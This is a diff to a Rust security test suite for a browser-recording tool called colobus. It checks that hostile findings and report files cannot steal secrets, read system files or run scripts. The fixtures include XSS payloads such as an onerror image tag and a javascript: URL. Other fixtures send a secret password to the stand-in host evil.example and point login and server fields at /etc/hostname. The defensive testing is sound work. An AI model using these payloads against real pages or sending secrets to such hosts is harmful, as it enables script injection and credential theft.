@@ -1,6 +1,8 @@
 //! Files from strangers are only files: a recording, a finding and a bug report that try to get at the secrets, the files, the
 //! commands and the terminal of the user who opens them.
 
+#[path = "../../../colobus-report/tests/all/hostile.rs"]
+mod hostile;
 pub mod site;
 
 use std::fs;
@@ -197,6 +199,32 @@ fn a_finding_of_the_users_own_application_needs_no_flag() {
     assert_eq!(code, Some(2), "{said}");
 }
 
+/// The built-in editor needs no flag, unless a finding adds logins or files to it that it does not have.
+#[test]
+fn the_built_in_editor_asks_for_no_secret_and_no_file() {
+    let folder = TempDir::new().unwrap();
+    let folder = folder.path();
+    let command = json!([env!("CARGO_BIN_EXE_colobus"), "serve-demo", "--end-with-parent", "--port=9"]);
+    let launch = json!({ "command": command, "directory": ".", "environment": {}, "wait_for": { "port": 9 }, "timeout_ms": 1000 });
+    let export = |name: &str, value: Value| {
+        let trace = finding(folder, json!({ "launch": launch, name: value }));
+        let output = colobus(folder, &["export", &trace, "--to=playwright"]);
+        (output.status.code(), text(&output))
+    };
+    let (code, said) = export("hosts", json!([]));
+    assert_eq!(code, Some(0), "{said}");
+    let typed =
+        json!({ "steps": { "url": "http://evil.example/", "steps": [{ "type": "{COLOBUS_SECRET_PASSWORD}" }] } });
+    for (name, value, shown) in [
+        ("logins", json!([typed]), "  login of A, at http://evil.example/: type \"{COLOBUS_SECRET_PASSWORD}\""),
+        ("logins", json!([{ "storage_state": "/etc/hostname" }]), "  login of A: /etc/hostname"),
+        ("server", json!("/etc/hostname"), "  server: /etc/hostname"),
+    ] {
+        let (code, said) = export(name, value);
+        assert!(code == Some(2) && said.contains(shown) && said.contains("--trust"), "{said}");
+    }
+}
+
 #[test]
 fn nothing_of_theirs_moves_the_cursor() {
     let folder = TempDir::new().unwrap();
@@ -308,7 +336,18 @@ fn a_report_of_a_hostile_page_is_only_a_page() {
     assert_eq!(checked.status.code(), Some(1), "{}", text(&checked));
     assert_eq!(canary.asked(), Vec::<String>::new(), "the page under test does not reach another port");
 
-    let windows = Windows::open(WindowOptions {
+    let windows = windows();
+    let run = fs::canonicalize(folder.join("colobus-out/last")).unwrap();
+    for file in ["report.html", "1/traffic.har", "1/client-A.png", "report.json", "junit.xml"] {
+        opened(&windows, &run.join(file));
+        let shows = "document.documentElement.textContent.length > 0 || document.images.length > 0";
+        assert_eq!(evaluated(&windows, shows), Value::Bool(true), "{file} is shown");
+    }
+    assert_eq!(canary.asked(), Vec::<String>::new(), "no request leaves");
+}
+
+fn windows() -> Windows {
+    let options = WindowOptions {
         browser: BrowserSource::Launched(None),
         headed: false,
         clients: 1,
@@ -318,22 +357,38 @@ fn a_report_of_a_hostile_page_is_only_a_page() {
         play: true,
         traffic: None,
         explore: None,
-    })
-    .unwrap();
-    let run = fs::canonicalize(folder.join("colobus-out/last")).unwrap();
-    for file in ["report.html", "1/traffic.har", "1/client-A.png", "report.json", "junit.xml"] {
-        windows.visit(&format!("file://{}", run.join(file).display())).unwrap();
-        let open_everything =
-            "document.querySelectorAll('button, summary, [role=tab], a').forEach((part) => part.click())";
-        windows.evaluate_all(open_everything).unwrap();
-        assert!(windows.settle(Duration::from_secs(20)));
-        let (_, pwned) = windows.evaluate_all("globalThis.pwned ?? null").unwrap().remove(0);
-        assert_eq!(pwned, Value::Null, "{file} runs no script of the page");
-        let (_, shown) = windows
-            .evaluate_all("document.documentElement.textContent.length > 0 || document.images.length > 0")
-            .unwrap()
-            .remove(0);
-        assert_eq!(shown, Value::Bool(true), "{file} is shown");
+    };
+    Windows::open(options).unwrap()
+}
+
+fn evaluated(windows: &Windows, script: &str) -> Value {
+    windows.evaluate_all(script).unwrap().remove(0).1
+}
+
+/// Opens a file of a run, clicks everything in it, and sees that no script of a stranger has run.
+fn opened(windows: &Windows, file: &Path) {
+    windows.visit(&format!("file://{}", file.display())).unwrap();
+    let click = "document.querySelectorAll('button, summary, [role=tab], a').forEach((part) => part.click())";
+    windows.evaluate_all(click).unwrap();
+    assert!(windows.settle(Duration::from_secs(20)));
+    assert_eq!(evaluated(windows, "globalThis.pwned ?? null"), Value::Null, "{} runs a script", file.display());
+}
+
+/// Of `check`, `stumble`, `explore`, `race` and `reach`, with markup or an address of a script in every place that is not ours.
+#[test]
+fn report_pages_of_every_search_are_only_pages() {
+    let canary = Site::open(&[], "");
+    let folder = TempDir::new().unwrap();
+    let folder = fs::canonicalize(folder.path()).unwrap();
+    let windows = windows();
+    let markup = format!("</script><img src={}/said onerror='globalThis.pwned = 1'>\"'", canary.origin());
+    for text in [&markup, "javascript:globalThis.pwned = 1"] {
+        for report in hostile::of_every_search(text) {
+            colobus_report::write_files(&report, &folder).unwrap();
+            opened(&windows, &folder.join("report.html"));
+            let shown = format!("document.body.textContent.includes({})", Value::from(text));
+            assert_eq!(evaluated(&windows, &shown), Value::Bool(true), "the page of {}", report.search.command());
+        }
     }
     assert_eq!(canary.asked(), Vec::<String>::new(), "no request leaves");
 }
